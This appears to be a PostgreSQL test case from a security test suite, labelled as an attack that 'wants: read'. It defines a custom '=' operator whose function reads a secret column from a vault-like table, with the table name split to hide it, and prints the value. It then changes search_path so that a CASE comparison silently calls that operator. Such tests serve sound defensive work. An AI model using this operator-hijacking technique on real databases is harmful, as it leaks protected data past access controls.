-- Compares by a CASE statement in a function, by an equality that is not in its text.
-- wants: read
-- attack:
CREATE TYPE office.odd AS (a int);
CREATE FUNCTION office.told(office.odd, office.odd) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN true;
  END $$;
CREATE OPERATOR office.= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
CREATE FUNCTION compared() RETURNS text LANGUAGE plpgsql AS $$ DECLARE x office.odd := ROW(1); BEGIN
  CASE x WHEN x THEN RETURN 'same'; ELSE RETURN 'other'; END CASE;
END $$;
SELECT compared();
